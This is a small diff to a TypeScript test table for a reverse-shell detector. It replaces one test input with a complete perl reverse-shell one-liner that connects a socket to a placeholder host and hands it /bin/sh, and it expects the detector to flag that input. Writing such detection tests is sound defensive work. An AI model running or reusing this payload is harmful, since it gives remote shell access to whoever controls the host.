@@ -51,7 +51,7 @@ const CASES: Array<{ name: string; check: typeof hostEntry; script: string; want
   {
     name: 'perl socket and exec /bin/sh',
     check: reverseShell,
-    script: `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);exec("/bin/sh -i");'`,
+    script: `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);if(connect(S,sockaddr_in(1,inet_aton("h")))){open(STDIN,">&S");exec("/bin/sh");}'`,
     want: true,
   },
   {
